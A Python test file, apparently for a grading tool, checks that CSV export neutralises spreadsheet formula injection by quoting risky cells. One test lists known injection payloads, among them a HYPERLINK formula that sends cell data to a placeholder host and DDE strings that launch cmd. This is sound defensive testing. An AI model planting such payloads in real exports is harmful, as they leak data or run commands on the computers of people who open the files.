"""Cells that a spreadsheet would evaluate are neutralised; everything else is kept as is."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from grading.spreadsheet import FORMULA_STARTS, csv_text, safe_cell

#: what a spreadsheet would read as the start of a formula (a quote first means text)
_EVALUATED = tuple(FORMULA_STARTS)


def _read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@given(st.text())
def test_no_text_cell_reads_back_as_a_formula(text: str) -> None:
    (_header, row) = _read_back(csv_text(["cell"], [[text]]))

    cell = row[0]
    assert not cell.startswith(_EVALUATED) or float(cell) == float(text)


@given(st.text())
def test_a_neutralised_cell_is_the_original_text_after_one_quote(text: str) -> None:
    cell = safe_cell(text)

    assert cell == text or cell == "'" + text


@given(st.sampled_from(FORMULA_STARTS), st.text())
def test_text_that_begins_with_a_formula_sign_gets_a_leading_quote(sign: str, rest: str
                                                                     ) -> None:
    text = sign + rest + "x"  # never a plain number

    assert safe_cell(text) == "'" + text


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_stay_numbers_negative_ones_too(number: float) -> None:
    assert safe_cell(number) == number
    assert safe_cell(str(number)) == str(number) or "e" in str(number).lower()


def test_known_injection_payloads_are_all_neutralised() -> None:
    payloads = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
                "\uff1dSUM(A1)", "\n=1"]

    assert all(safe_cell(p) == "'" + p for p in payloads)


def test_the_header_is_made_safe_too() -> None:
    (header,) = _read_back(csv_text(["=question-id"], []))

    assert header == ["'=question-id"]
